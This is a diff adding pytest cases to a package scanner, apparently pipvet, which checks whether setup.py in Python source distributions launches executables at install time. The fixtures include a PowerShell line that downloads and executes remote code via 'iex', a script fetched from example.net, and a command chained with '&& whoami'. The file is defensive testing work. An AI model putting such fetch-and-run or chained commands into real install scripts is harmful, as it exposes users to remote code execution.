@@ -2733,6 +2733,57 @@ def test_a_command_line_that_is_not_just_the_shipped_script_still_blocks(posix):
     assert "high" in severities(result, "capability.process")
 
 
+def test_a_build_running_a_script_the_sdist_does_not_ship_is_said_not_blocked():
+    """poseidon-py: setup.py runs `.\\build.ps1` on Windows, left out of the sdist. The command
+    fails, there being nothing to run: medium, not a launch of a hidden program."""
+    files = {"setup.py": _BUILD_EXT.format(posix='"./tools/build.sh"'), "demo/__init__.py": ""}
+    result = scan({**files, "tools/build.sh": _HONEST_SH})
+    [launch] = found(result, "install-time.runs-executable")
+    assert launch.severity == "medium" and "build.ps1" in launch.message
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "before, extra",
+    [
+        # fetched, written or copied under that name first: then there is something to run
+        ('urllib.request.urlretrieve("https://example.net/b", "tools/build.ps1")', False),
+        ('open("tools/build.ps1", "w").write(os.environ["PS"])', False),
+        ('shutil.copy(os.environ["SRC"], os.path.join("tools", "build.ps1"))', False),
+        # held inside an archive of the sdist, which setup.py may unpack
+        ("pass", True),
+    ],
+)
+def test_a_script_setup_py_may_have_made_is_still_a_launch_that_blocks(before, extra):
+    setup = "import os, shutil, urllib.request\n" + _BUILD_EXT.format(
+        posix='"./tools/build.sh"'
+    ).replace("        else:\n", f"        else:\n            {before}\n")
+    files = {"setup.py": setup, "demo/__init__.py": "", "tools/build.sh": _HONEST_SH}
+    if extra:  # a real sdist, read as pipvet reads one: members of the zip are seen too
+        buffer = io.BytesIO()
+        with zipfile.ZipFile(buffer, "w") as zf:
+            zf.writestr("build.ps1", "Invoke-WebRequest https://example.net/x | iex\n")
+        raw = {k: textwrap.dedent(v).encode() for k, v in files.items()}
+        result = analyze(_sdist_bytes({**raw, "tools/scripts.zip": buffer.getvalue()}))
+    else:
+        result = scan(files)
+    assert severities(result, "install-time.runs-executable") == {"high"}
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        'os.system("calc.exe")',  # a bare name is found on PATH: it exists
+        "os.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {TMP}\")",  # not folded
+        'subprocess.call(["cmd", "/c", "tools\\\\stage.bat", "&&", "whoami"])',  # more than it
+    ],
+)
+def test_a_launch_of_a_program_that_may_exist_stays_high(run):
+    setup = "import os, subprocess, sys\nTMP = os.environ['T']\n" + run + "\n" + SETUP
+    result = scan({"setup.py": setup, "demo/__init__.py": ""})
+    assert severities(result, "install-time.runs-executable") == {"high"}
+
+
 # -- an obfuscator's own source names its markers in strings: it is not obfuscated ---------------
 
 _RUNTIME_WRITER = """
